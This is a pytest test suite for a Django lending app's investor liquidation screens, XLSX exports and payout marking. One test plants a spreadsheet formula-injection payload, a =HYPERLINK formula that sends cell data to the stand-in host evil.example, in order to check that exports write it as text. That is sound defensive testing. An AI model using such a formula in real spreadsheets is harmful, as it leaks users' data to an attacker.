from datetime import date, datetime
from decimal import Decimal
from io import BytesIO
from zoneinfo import ZoneInfo

import pytest
from django.core.exceptions import ValidationError
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook
from playwright.sync_api import expect
from pytest_django.asserts import assertContains, assertNotContains

from credits.investors import services as investor_services
from credits.models import Distribution, Liquidation, Loan, Payment
from credits.services import loans as loan_services
from credits.services import payments as payment_services
from tests.factories import InvestorFactory, LoanFactory, LoanProductFactory, UserFactory

LIMA = ZoneInfo("America/Lima")


def _at(time_machine, day: date, hour: int = 10) -> None:
    time_machine.move_to(datetime(day.year, day.month, day.day, hour, tzinfo=LIMA), tick=False)


def _pay(loan, day: date):
    return payment_services.apply_payment(
        loan=loan,
        amount=Decimal("1033.33"),
        received_on=day,
        source=Payment.Source.TRANSFER,
        actor=None,
    )


@pytest.fixture
def book(make_active_loan, time_machine):
    """A 10,000 flat loan at 2 % a month funded 60/40, paid on 1 Feb and on 1 Mar."""
    _at(time_machine, date(2026, 1, 1))
    product = LoanProductFactory(method="flat", platform_fee_percent=Decimal("10"))
    loan = make_active_loan(product=product, principal=Decimal("10000.00"))
    lucia = InvestorFactory(name="Lucía Paredes", bank_cci="00219100123456780121")
    jorge = InvestorFactory(name="Jorge Salas")
    investor_services.add_participation(loan=loan, investor=lucia, actor=None, share=Decimal("60"))
    investor_services.add_participation(loan=loan, investor=jorge, actor=None, share=Decimal("40"))
    _at(time_machine, date(2026, 2, 1))
    february = _pay(loan, date(2026, 2, 1))
    _at(time_machine, date(2026, 3, 1))
    march = _pay(loan, date(2026, 3, 1))
    _at(time_machine, date(2026, 4, 2))
    return {"loan": loan, "lucia": lucia, "jorge": jorge, "february": february, "march": march}


def _liquidate(investor, start: date, end: date) -> Liquidation:
    return investor_services.create_liquidation(
        investor=investor, period_start=start, period_end=end, actor=None
    )


def _urls(liquidation):
    return [
        ("get", reverse("credits:liquidation_list")),
        ("get", reverse("credits:liquidation_create")),
        ("get", liquidation.get_absolute_url()),
        ("get", reverse("credits:liquidation_xlsx", args=[liquidation.pk])),
        ("post", reverse("credits:liquidation_pay", args=[liquidation.pk])),
    ]


@pytest.mark.parametrize("who", ["asesor", "cobranzas", "outsider"])
def test_staff_without_the_liquidation_permissions_are_refused(db, client, request, book, who):
    liquidation = _liquidate(book["lucia"], date(2026, 2, 1), date(2026, 2, 28))
    client.force_login(request.getfixturevalue(who))

    for method, url in _urls(liquidation):
        response = getattr(client, method)(url, {"reference": "OP-1"} if method == "post" else {})
        assert response.status_code == 403, url
    liquidation.refresh_from_db()
    assert liquidation.status == Liquidation.Status.DRAFT


def test_a_supervisor_opens_every_liquidation_screen(client, supervisor, book):
    liquidation = _liquidate(book["lucia"], date(2026, 2, 1), date(2026, 2, 28))
    client.force_login(supervisor)

    for method, url in _urls(liquidation)[:-1]:
        assert getattr(client, method)(url).status_code == 200, url


def test_the_new_liquidation_form_defaults_to_last_month(client, supervisor, book):
    client.force_login(supervisor)

    response = client.get(reverse("credits:liquidation_create"))

    # Today is 2 Apr 2026.
    assertContains(response, 'value="2026-03-01"')
    assertContains(response, 'value="2026-03-31"')


def test_creating_a_liquidation_takes_only_the_investors_unliquidated_lines_in_the_period(
    client, supervisor, book
):
    client.force_login(supervisor)

    response = client.post(
        reverse("credits:liquidation_create"),
        {"investor": book["lucia"].pk, "period_start": "2026-02-01", "period_end": "2026-02-28"},
    )

    liquidation = Liquidation.objects.get()
    assert response.url == liquidation.get_absolute_url()
    lines = list(liquidation.lines.all())
    assert [(d.investor, d.payment) for d in lines] == [(book["lucia"], book["february"])]
    assert (liquidation.principal, liquidation.interest) == (Decimal("500.00"), Decimal("120.00"))
    assert (liquidation.platform_fee, liquidation.net_amount) == (
        Decimal("12.00"),
        Decimal("608.00"),
    )
    assert Distribution.objects.filter(liquidation__isnull=True).count() == 3


def test_a_period_already_liquidated_is_refused_in_spanish(client, supervisor, book):
    _liquidate(book["lucia"], date(2026, 2, 1), date(2026, 2, 28))
    client.force_login(supervisor)

    response = client.post(
        reverse("credits:liquidation_create"),
        {"investor": book["lucia"].pk, "period_start": "2026-02-01", "period_end": "2026-02-28"},
    )

    assert response.status_code == 200
    assertContains(response, "No hay repartos por liquidar en ese periodo.")
    assert Liquidation.objects.count() == 1


def test_a_period_ending_before_it_starts_is_refused_in_spanish(client, supervisor, book):
    client.force_login(supervisor)

    response = client.post(
        reverse("credits:liquidation_create"),
        {"investor": book["lucia"].pk, "period_start": "2026-03-01", "period_end": "2026-02-01"},
    )

    assertContains(response, "El fin del periodo es anterior al inicio.")
    assert not Liquidation.objects.exists()


def test_a_reversal_after_a_liquidation_goes_into_the_next_one(book, time_machine):
    february = _liquidate(book["lucia"], date(2026, 2, 1), date(2026, 2, 28))
    _at(time_machine, date(2026, 4, 5))
    # Payments are annulled newest first: March's goes, then February's.
    payment_services.annul_payment(payment=book["march"], actor=None, reason="Se registra de nuevo")
    payment_services.annul_payment(payment=book["february"], actor=None, reason="Cheque sin fondos")

    # March's payment (+608.00), its reversal and February's (-608.00 each): Lucía owes
    # 608.00, which is not liquidated but left for her next liquidation.
    with pytest.raises(ValidationError, match=r"Lucía Paredes debe S/ 608\.00"):
        _liquidate(book["lucia"], date(2026, 3, 1), date(2026, 4, 30))

    february.refresh_from_db()
    assert february.net_amount == Decimal("608.00")
    assert february.lines.count() == 1
    waiting = Distribution.objects.filter(investor=book["lucia"], liquidation__isnull=True)
    assert waiting.count() == 3
    # February's reversal answers a line of February's liquidation.
    assert {r.reversal_of.liquidation for r in waiting.filter(reversal_of__isnull=False)} == {
        february,
        None,
    }


def test_the_statement_shows_investor_bank_lines_and_totals(client, supervisor, book):
    liquidation = _liquidate(book["lucia"], date(2026, 2, 1), date(2026, 3, 31))
    client.force_login(supervisor)

    response = client.get(liquidation.get_absolute_url())

    assertContains(response, "Lucía Paredes")
    assertContains(response, "00219100123456780121")
    assertContains(response, "01/02/2026 – 31/03/2026")
    assertContains(response, book["loan"].payment_code, count=2)
    assertContains(response, book["loan"].customer.full_name, count=2)
    assertContains(response, '<td class="text-end" data-total="net">1,216.00</td>', html=True)
    assertContains(response, '<td class="text-end" data-total="platform_fee">24.00</td>', html=True)
    assertContains(response, "Borrador")
    assertContains(response, "data-print")
    assertContains(response, 'media="print"')


def test_the_statement_marks_reversal_lines(client, supervisor, book, time_machine):
    _at(time_machine, date(2026, 3, 10))
    payment_services.annul_payment(payment=book["march"], actor=None, reason="Depósito rechazado")
    liquidation = _liquidate(book["lucia"], date(2026, 3, 1), date(2026, 3, 31))
    client.force_login(supervisor)

    response = client.get(liquidation.get_absolute_url())

    assertContains(response, f"Anulación del pago n.º {book['march'].pk}")
    assertContains(response, "-608.00")


def test_the_print_view_renders_the_statement_without_the_navbar(client, supervisor, book):
    liquidation = _liquidate(book["lucia"], date(2026, 2, 1), date(2026, 2, 28))
    client.force_login(supervisor)

    page = client.get(liquidation.get_absolute_url())
    bare = client.get(liquidation.get_absolute_url(), {"print": "1"})

    assertContains(page, 'class="navbar')
    assertNotContains(bare, 'class="navbar')
    assertNotContains(bare, "Marcar como pagada")
    assertContains(bare, 'id="liquidation-statement"')
    assertContains(bare, "css/print.css")
    assertContains(bare, "js/app.js")


def test_the_xlsx_download_has_the_lines_and_the_statements_totals(client, supervisor, book):
    liquidation = _liquidate(book["lucia"], date(2026, 2, 1), date(2026, 3, 31))
    client.force_login(supervisor)

    response = client.get(reverse("credits:liquidation_xlsx", args=[liquidation.pk]))

    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    assert (
        'filename="liquidacion-lucia-paredes-20260201-20260331.xlsx"'
        in (response["Content-Disposition"])
    )
    sheet = load_workbook(BytesIO(response.content)).active
    rows = list(sheet.iter_rows(values_only=True))
    assert ("Inversionista", "Lucía Paredes") in [r[:2] for r in rows]
    header = next(i for i, r in enumerate(rows) if r[0] == "Fecha")
    totals = next(r for r in rows if r[0] == "Totales")
    lines = rows[header + 1 : rows.index(totals)]
    assert [line[1] for line in lines] == [book["loan"].payment_code] * 2
    assert [Decimal(str(v)) for v in totals[4:8]] == [
        liquidation.principal,
        liquidation.interest,
        liquidation.platform_fee,
        liquidation.net_amount,
    ]
    for column in range(4, 8):
        assert sum(Decimal(str(line[column])) for line in lines) == Decimal(str(totals[column]))
    total_row = sheet.max_row
    assert sheet.cell(row=total_row, column=8).number_format == "#,##0.00"
    assert sheet.column_dimensions["C"].width > 20


def test_the_xlsx_writes_typed_formulas_as_text(client, supervisor, book):
    customer = book["loan"].customer
    customer.first_name = '=HYPERLINK("https://evil.example/?x="&B3,"Ver detalle")'
    customer.save(update_fields=["first_name"])
    lucia = book["lucia"]
    lucia.bank_name = "=1+1"
    lucia.save(update_fields=["bank_name"])
    liquidation = _liquidate(lucia, date(2026, 2, 1), date(2026, 3, 31))
    client.force_login(supervisor)

    response = client.get(reverse("credits:liquidation_xlsx", args=[liquidation.pk]))

    sheet = load_workbook(BytesIO(response.content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    assert "=1+1" in [c.value for c in cells]


def test_marking_paid_requires_a_reference(client, supervisor, book):
    liquidation = _liquidate(book["lucia"], date(2026, 2, 1), date(2026, 2, 28))
    client.force_login(supervisor)

    response = client.post(
        reverse("credits:liquidation_pay", args=[liquidation.pk]),
        {"reference": "  ", "confirm": "yes"},
    )

    assert response.status_code == 200
    assertContains(response, "Indique el número de operación del abono.")
    liquidation.refresh_from_db()
    assert liquidation.status == Liquidation.Status.DRAFT


def test_marking_paid_records_the_reference_and_asks_first(client, supervisor, book):
    liquidation = _liquidate(book["lucia"], date(2026, 2, 1), date(2026, 2, 28))
    client.force_login(supervisor)
    url = reverse("credits:liquidation_pay", args=[liquidation.pk])

    # Asked first, on the server: a POST without the confirmation page's field only asks.
    asked = client.post(url, {"reference": "OP-778899"})
    assertContains(asked, "¿Registrar el abono de")
    assert Liquidation.objects.get(pk=liquidation.pk).status == Liquidation.Status.DRAFT
    response = client.post(url, {"reference": "OP-778899", "confirm": "yes"})

    liquidation.refresh_from_db()
    assert response.url == liquidation.get_absolute_url()
    assert (liquidation.status, liquidation.payout_reference) == ("paid", "OP-778899")
    page = client.get(liquidation.get_absolute_url())
    assertContains(page, "OP-778899")
    assertNotContains(page, "Marcar como pagada")


def test_a_paid_liquidation_cannot_be_paid_again(client, supervisor, book):
    liquidation = _liquidate(book["lucia"], date(2026, 2, 1), date(2026, 2, 28))
    investor_services.mark_liquidation_paid(liquidation=liquidation, reference="OP-1", actor=None)
    client.force_login(supervisor)

    response = client.post(
        reverse("credits:liquidation_pay", args=[liquidation.pk]),
        {"reference": "OP-2", "confirm": "yes"},
    )

    assertContains(response, "Esta liquidación ya figura como pagada.")
    liquidation.refresh_from_db()
    assert liquidation.payout_reference == "OP-1"


def test_the_list_filters_by_investor_status_and_period(client, supervisor, book):
    february = _liquidate(book["lucia"], date(2026, 2, 1), date(2026, 2, 28))
    _liquidate(book["lucia"], date(2026, 3, 1), date(2026, 3, 31))
    _liquidate(book["jorge"], date(2026, 2, 1), date(2026, 3, 31))
    investor_services.mark_liquidation_paid(liquidation=february, reference="OP-1", actor=None)
    client.force_login(supervisor)
    url = reverse("credits:liquidation_list")

    assertContains(client.get(url), "3 liquidaciones")
    assertContains(client.get(url, {"investor": book["jorge"].pk}), "1 liquidación")
    assertContains(client.get(url, {"status": "paid"}), "1 liquidación")
    assertContains(client.get(url, {"since": "2026-03-01"}), "2 liquidaciones")
    assertContains(client.get(url, {"until": "2026-02-15"}), "2 liquidaciones")


def test_the_list_exports_each_liquidation_with_its_period_and_currency(client, supervisor, book):
    liquidation = _liquidate(book["lucia"], date(2026, 2, 1), date(2026, 2, 28))
    client.force_login(supervisor)

    response = client.get(reverse("credits:liquidation_list"), {"export": "xlsx"})

    header, row = list(load_workbook(BytesIO(response.content)).active.values)
    values = dict(zip(header, row, strict=True))
    assert values["Periodo"] == "01/02/2026 – 28/02/2026"
    assert (values["Desde"].date(), values["Hasta"].date()) == (
        date(2026, 2, 1),
        date(2026, 2, 28),
    )
    assert (values["Inversionista"], values["Moneda"]) == ("Lucía Paredes", "Soles (S/)")
    assert values["Neto"] == liquidation.net_amount


# --- In the browser -------------------------------------------------------------------

# Records the print dialog instead of opening it.
STUB_PRINT = "window.__printed = 0; window.print = () => { window.__printed += 1; };"


def test_in_the_browser_the_statement_prints_and_is_marked_paid_after_confirming(
    page, live_server, roles
):
    UserFactory(username="supervisor", role="Supervisor")
    today = timezone.localdate()
    loan = loan_services.disburse(
        loan=LoanFactory(status=Loan.Status.READY_TO_DISBURSE, principal=Decimal("10000.00"),
                         start_date=today.replace(day=1), first_due_date=today),
        actor=None,
    )  # fmt: skip
    lucia = InvestorFactory(name="Lucía Paredes")
    investor_services.add_participation(loan=loan, investor=lucia, actor=None, share=Decimal("100"))
    payment_services.apply_payment(
        loan=loan,
        amount=Decimal("500.00"),
        received_on=today,
        source=Payment.Source.CASH,
        actor=None,
    )
    liquidation = _liquidate(lucia, today.replace(day=1), today)
    page.add_init_script(STUB_PRINT)

    page.goto(f"{live_server.url}/ingresar/")
    page.get_by_label("Usuario").fill("supervisor")
    page.get_by_label("Contraseña").fill("demo1234")
    page.get_by_role("button", name="Ingresar").click()
    page.goto(f"{live_server.url}{liquidation.get_absolute_url()}")
    page.get_by_role("button", name="Imprimir / PDF").click()
    assert page.evaluate("window.__printed") == 1

    page.get_by_role("link", name="Marcar como pagada").click()
    expect(page.locator("#confirm-figures")).to_contain_text("Lucía Paredes")
    page.get_by_label("N.º de operación del abono").fill("OP-4455")
    page.get_by_role("link", name="Cancelar").click()
    liquidation.refresh_from_db()
    assert liquidation.status == Liquidation.Status.DRAFT
    page.get_by_role("link", name="Marcar como pagada").click()
    page.get_by_label("N.º de operación del abono").fill("OP-4455")
    page.get_by_role("button", name="Sí, registrar el abono").click()

    expect(page.locator("#messages")).to_contain_text("Liquidación registrada como pagada.")
    expect(page.locator("#statement-status")).to_contain_text("OP-4455")
